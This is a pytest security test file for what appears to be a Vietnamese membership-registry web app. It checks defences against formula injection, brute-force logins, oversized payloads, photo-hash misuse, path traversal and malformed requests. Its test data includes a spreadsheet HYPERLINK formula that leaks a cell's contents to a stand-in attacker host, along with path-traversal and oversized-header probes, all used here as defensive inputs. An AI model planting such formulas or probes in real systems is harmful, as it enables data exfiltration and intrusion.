"""Issue 15's security items, each proven by what an attacker sent: formula injection in spreadsheets,
login throttling per client address, bounded kept payloads, JSON bombs, photo hashes as keys, and the
smaller ones (directory oracle, control characters, truncated JPEGs, absurd dates, session lifetime)."""
import hashlib
import io
import json
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select

from server import auth as auth_module
from server.auth import create_user
from server.extensions import db
from offline_queue.kept import KEEP_STRING_CHARS
from offline_queue.photos import ImageCorrupt
from server.models import AuditEvent, AuthSession, RejectedPayload, Submission, utcnow
from server.reconcile import run_reconciliation
from server.review.exports import TITLE_ROWS
from tests.conftest import PASSWORD, add_member
from harness.live_server import LiveServer
from tests.sync_support import add_registry, item, post_items, stored_photo

LEAK = '=HYPERLINK("http://evil.example/?leak="&E2,"Bấm để xem")'
NASTY_TEXTS = [LEAK, "\t=1+1", "+1+1", "-2+3", "@SUM(1)", "\r=1+1", "=1"]


# ---- 1. formula injection ------------------------------------------------------------------------------

def test_the_review_export_stores_text_that_looks_like_a_formula_as_text(app, tree, login_as):
    add_registry()  # Nguyễn Văn An with citizen ID 001060012345: every member below differs by name
    for index, text in enumerate(NASTY_TEXTS):
        add_member(tree["C1"], f"X{index}", full_name=text, hometown=text)
    db.session.commit()
    run_reconciliation()
    admin = login_as("unit_admin", "P")

    response = admin.get("/api/v1/review/export.xlsx?unit=C1")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # the title block, then the column headers: Chi bộ, Mã đảng viên, Họ và tên, …, Quê quán (column 7)
    names = {row[1].value: (row[2], row[6]) for row in sheet.iter_rows(min_row=TITLE_ROWS + 2)}
    for index, text in enumerate(NASTY_TEXTS):
        name, hometown = names[f"X{index}"]
        kept = text.replace("\r", "\n")  # XML reads a bare CR as a line end; the cell stays text either way
        assert name.value == kept and hometown.value == kept  # intact, the leading tab included
        assert name.quotePrefix and hometown.quotePrefix  # stays text when someone edits the cell


# ---- 2 and 3. login throttling per username at an address, and per address -----------------------------

def _login(client, username, password, address):
    return client.post("/api/v1/auth/login", json={"username": username, "password": password},
                       environ_base={"REMOTE_ADDR": address})


@pytest.fixture
def hashes(monkeypatch):
    """Counts the password checks that reach scrypt."""
    calls = []
    real = auth_module.check_password_hash

    def counted(*args):
        calls.append(1)
        return real(*args)

    monkeypatch.setattr(auth_module, "check_password_hash", counted)
    return calls


def test_a_stranger_locks_only_their_own_address_out(client, tree, hashes):
    create_user("admin.p", PASSWORD, "unit_admin", "P")
    db.session.commit()
    for _ in range(10):
        assert _login(client, "admin.p", "guess-guess", "203.0.113.9").status_code == 401
    refused = _login(client, "admin.p", PASSWORD, "203.0.113.9")  # the right password too
    assert refused.status_code == 429 and refused.json["error"]["code"] == "too_many_attempts"
    assert 1 <= int(refused.headers["Retry-After"]) <= 15 * 60
    assert len(hashes) == 10  # the refused attempt never reached the password hash
    assert _login(client, "admin.p", PASSWORD, "198.51.100.7").status_code == 200  # the admin's own address
    addresses = db.session.scalars(select(AuditEvent.detail).where(AuditEvent.action == "auth.login")).all()
    assert [d["address"] for d in addresses] == ["203.0.113.9"] * 11 + ["198.51.100.7"]


def test_one_address_trying_many_usernames_is_slowed_too(app, client, tree, hashes):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    limit = app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"]
    for n in range(limit):
        assert _login(client, f"guess{n}", "guess-guess", "203.0.113.9").status_code == 401
    refused = _login(client, "ana", PASSWORD, "203.0.113.9")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1
    assert len(hashes) == limit
    assert _login(client, "ana", PASSWORD, "198.51.100.7").status_code == 200


def test_a_good_sign_in_gives_its_slot_back_to_the_address(app, client, tree):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"] = 3
    for _ in range(5):  # an office behind one address signing in all day is never slowed by its successes
        assert _login(client, "ana", PASSWORD, "192.0.2.1").status_code == 200


def test_concurrent_wrong_passwords_reach_the_hash_no_more_than_the_limit(app, tree, hashes):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    db.session.remove()
    barrier = threading.Barrier(40)

    def attempt(_):
        with app.app_context():
            client = app.test_client()
            barrier.wait()
            try:
                return _login(client, "ana", "guess-guess", "203.0.113.9").status_code
            finally:
                db.session.remove()

    with ThreadPoolExecutor(40) as pool:
        statuses = sorted(pool.map(attempt, range(40)))
    assert statuses == [401] * 10 + [429] * 30
    assert len(hashes) == 10


# ---- 4. what is kept of rejected items is bounded ------------------------------------------------------

def _kept():
    db.session.expire_all()
    return db.session.scalars(select(RejectedPayload).order_by(RejectedPayload.id)).all()


def test_an_item_no_field_could_ever_hold_refuses_the_envelope_and_keeps_nothing(login_as, members):
    officer = login_as("officer", "C1")
    good = item(stored_photo(), member_id=members["m1"].id)
    huge = item(stored_photo(), member_id=members["m1"].id, fields={"full_name": "A" * 400_000})
    response = post_items(officer, [good, huge])
    assert response.status_code == 413 and response.json["error"]["code"] == "item_too_large"
    assert list(response.json["error"]["fields"]) == ["items.1"]
    assert _kept() == [] and db.session.query(Submission).count() == 0


def test_a_rejected_item_is_kept_cut_to_its_bounds_and_marked(login_as, members):
    officer = login_as("officer", "C1")
    long_name = "Nguyễn " * 300  # 2,100 characters: too long, yet under the never-valid bound
    typed = item(stored_photo(), member_id=members["m1"].id, fields={"full_name": long_name})
    normal = item(stored_photo(), member_id=members["m1"].id, consent=False)
    results = post_items(officer, [typed, normal]).json["results"]
    assert [r["outcome"] for r in results] == ["rejected", "rejected"]
    cut, whole = _kept()
    assert cut.truncated and cut.payload["fields"]["full_name"] == long_name[:KEEP_STRING_CHARS]
    assert cut.payload["client_id"] == typed["client_id"] and cut.payload["fields"]["hometown"] == "Hà Nội"
    assert not whole.truncated and whole.payload == normal  # what fits is kept exactly as received
    assert 0 < whole.kept_bytes < 2000


def test_a_device_keeps_a_bounded_amount_a_day_then_only_the_reasons(login_as, members, monkeypatch):
    monkeypatch.setattr("offline_queue.kept.KEEP_BYTES_PER_DEVICE_DAY", 1000)
    officer = login_as("officer", "C1")
    bad = [item(stored_photo(), member_id=members["m1"].id, consent=False) for _ in range(4)]
    assert [r["outcome"] for r in post_items(officer, bad).json["results"]] == ["rejected"] * 4
    rows = _kept()
    assert rows[0].payload == bad[0] and rows[0].kept_bytes > 300  # the first ones whole
    assert rows[-1].payload == {} and rows[-1].truncated and rows[-1].client_id == bad[-1]["client_id"]
    assert rows[-1].errors == [{"field": "consent", "code": "consent_required", "params": {}}]
    assert sum(row.kept_bytes for row in rows) <= 1000
    other_device = post_items(officer, [item(stored_photo(), consent=False)], device_id="made-up-2")
    assert other_device.status_code == 200 and _kept()[-1].payload == {}  # a new device id is no way round


# ---- 6. a photo hash is an address, never a key ------------------------------------------------------

def test_a_photo_hash_learnt_elsewhere_is_not_a_key_to_the_portrait(login_as, members):
    owner, stranger = login_as("officer", "C1"), login_as("officer", "C2")
    sha = stored_photo(uploader=owner.user)
    assert post_items(owner, [item(sha, member_id=members["m1"].id)]).json["results"][0]["outcome"] == "accepted"
    assert stranger.head(f"/api/v1/photos/{sha}").status_code == 404

    result = post_items(stranger, [item(sha, member_id=members["m3"].id)]).json["results"][0]

    assert result["outcome"] == "rejected"
    assert result["errors"] == [{"field": "photo_sha256", "code": "photo_missing", "params": {}}]
    assert stranger.get(f"/api/v1/photos/{sha}").status_code == 404
    assert owner.head(f"/api/v1/photos/{sha}").status_code == 200


def test_one_portrait_for_two_members_goes_to_review_as_photo_reused(login_as, members):
    officer = login_as("officer", "C1")
    sha = stored_photo(uploader=officer.user)
    first = post_items(officer, [item(sha, member_id=members["m1"].id)]).json["results"][0]
    second = post_items(officer, [item(sha, member_id=members["m2"].id, fields={
        "full_name": "Trần Thị Hoà", "date_of_birth": "1972", "gender": "female",
        "citizen_id": "001172000111"})]).json["results"][0]
    assert first["outcome"] == second["outcome"] == "accepted"
    assert second["status"] == "needs_review"
    assert "photo_reused" in db.session.get(Submission, second["submission_id"]).review_reasons


# ---- 7. smaller ones -------------------------------------------------------------------------------------

def test_a_path_out_of_the_app_folder_answers_like_a_missing_file(client):
    answers = {path: client.get(path) for path in ("/..%2f..%2fetc", "/..%2f..%2fno-such-dir", "/nope/")}
    assert {response.status_code for response in answers.values()} == {404}
    assert all(response.mimetype == "application/json" for response in answers.values())


def test_a_cut_off_jpeg_with_an_end_marker_appended_is_corrupt(login_as, members):
    officer = login_as("officer", "C1")
    source = io.BytesIO()
    Image.effect_noise((900, 1200), 60).convert("RGB").save(source, "JPEG", quality=85)
    whole = source.getvalue()
    cut = whole[:len(whole) // 3] + b"\xff\xd9"
    response = officer.put(f"/api/v1/photos/{hashlib.sha256(cut).hexdigest()}", data=cut, content_type="image/jpeg")
    assert response.status_code == 422 and response.json["error"]["code"] == "image_corrupt"
    intact = officer.put(f"/api/v1/photos/{hashlib.sha256(whole).hexdigest()}", data=whole, content_type="image/jpeg")
    assert intact.status_code == 201


def test_no_more_than_two_photos_decode_at_once_in_a_worker(monkeypatch, tmp_path):
    from offline_queue import photo_store
    from offline_queue.photo_store import DECODES_AT_ONCE
    running, peak, lock, two_in = [0], [0], threading.Lock(), threading.Event()

    def slow_normalise(body, **kwargs):
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
            if running[0] == DECODES_AT_ONCE:
                two_in.set()
        # The first waits for the second to come in, however late a loaded machine starts its thread (50 ms was
        # all it had, and a peak of 1 failed the test); with a bound of one it never comes, and peak says so.
        two_in.wait(10)
        time.sleep(0.05)  # long enough for more to pile up, were the bound broken
        with lock:
            running[0] -= 1
        raise ImageCorrupt()

    monkeypatch.setattr(photo_store, "normalise", slow_normalise)
    monkeypatch.setattr(photo_store.db.session, "get", lambda *args: None)

    def upload(n):
        try:
            photo_store.store_upload(f"{n:064x}", b"x", None, tmp_path)
        except ImageCorrupt:
            pass

    with ThreadPoolExecutor(12) as pool:
        list(pool.map(upload, range(12)))
    assert peak[0] == DECODES_AT_ONCE == 2


@pytest.mark.parametrize("due", ["0001-01-01", "9999-12-31"])
def test_a_visit_due_in_year_1_or_9999_is_refused(login_as, members, due):
    lead, officer = login_as("team_lead", "G1"), login_as("officer", "C1")
    response = lead.post("/api/v1/visits", json={"member_id": members["m1"].id, "assignee_id": officer.user.id,
                                                 "due_date": due})
    assert response.status_code == 422
    assert response.json["error"]["fields"]["due_date"][0]["code"] == "date_out_of_range"


def test_a_record_captured_in_year_1_is_refused(login_as, members):
    officer = login_as("officer", "C1")
    body = item(stored_photo(), member_id=members["m1"].id, captured_at="0001-01-02T00:00:00+07:00")
    (result,) = post_items(officer, [body]).json["results"]
    assert result["outcome"] == "rejected"
    assert {"field": "captured_at", "code": "date_out_of_range", "params": {"min": "2020-01-01"}} in result["errors"]


def test_a_session_ends_at_its_absolute_lifetime_however_busy(app, login_as, tree):
    officer = login_as("officer", "C1")
    assert officer.get("/api/v1/auth/me").status_code == 200
    session = db.session.scalars(select(AuthSession)).one()
    session.created_at -= timedelta(hours=app.config["SESSION_MAX_HOURS"], minutes=1)
    session.last_seen_at = utcnow()  # used a second ago: the idle limit alone would keep it
    db.session.commit()
    assert officer.get("/api/v1/auth/me").status_code == 401


def test_the_session_cookie_lasts_a_working_day_so_a_restart_keeps_it(app, client, tree):
    create_user("ana", PASSWORD, "officer", "C1")
    db.session.commit()
    cookie = _login(client, "ana", PASSWORD, "192.0.2.1").headers["Set-Cookie"]
    assert f"Max-Age={app.config['SESSION_MAX_HOURS'] * 3600}" in cookie and "HttpOnly" in cookie


def test_gunicorn_answers_requests_it_cannot_read_in_json(tmp_path):
    server = LiveServer(tmp_path / "data")
    server.cli("init-db")
    server.start()
    try:
        answers = {}
        for name, request in (("long_line", b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n"),
                              ("bad_header", b"GET / HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n"),
                              ("huge_header", b"GET / HTTP/1.1\r\nHost: x\r\nX-A: " + b"b" * 9000 + b"\r\n\r\n")):
            with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
                sock.sendall(request)
                answers[name] = sock.makefile("rb").read()
    finally:
        server.stop()
    for name, raw in answers.items():
        head, _, body = raw.partition(b"\r\n\r\n")
        assert b"application/json" in head and b"<html" not in raw, (name, raw[:200])
        assert json.loads(body)["error"]["code"] in ("request_line_too_long", "bad_request", "headers_too_large")
    assert answers["long_line"].startswith(b"HTTP/1.1 414")
